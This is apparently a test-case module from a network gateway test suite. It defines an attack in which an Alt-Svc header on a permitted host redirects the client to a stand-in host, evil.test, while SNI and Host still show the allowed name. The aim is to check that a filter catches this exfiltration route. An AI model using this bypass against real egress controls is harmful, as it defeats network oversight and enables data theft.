"""An alternative service: the same name, at another host.

`Alt-Svc: h2="evil.test:443"` tells a client to go on speaking about allowed.test (SNI and Host
stay) with another machine. A judge of SNI or Host alone sees the permitted name throughout.

Not covered: HTTP/3 alternatives, which are UDP and have no road at all.
"""

ATTACK = {
    "title": "Alternative service of a permitted name at another host",
    "group": "redirects",
    "layer": "gateway",
    "risk": "exfiltration",
    "references": ["RFC 7838 section 2.1", "CWE-290", "ATT&CK T1090.004"],
    "arrives": [{"what": "tcp", "address": "93.184.216.66"}, {"what": "question", "name": "evil.test"}],
    "stopped": [{"reason": ["name-mismatch"], "entry": ["transparent"], "where": {"name": "evil.test"}}],
}


def attempt(kit):
    import re

    path = "/answer-with?name=Alt-Svc&value=h2=%22evil.test:443%22"
    head = kit.talk("allowed.test", 443, kit.get(path), sni="allowed.test").get("reply", "")
    found = re.search(r'Alt-Svc: h2="([^":]+):(\d+)"', head)
    if found:
        kit.talk(found[1], int(found[2]), kit.get("/"), sni="allowed.test")
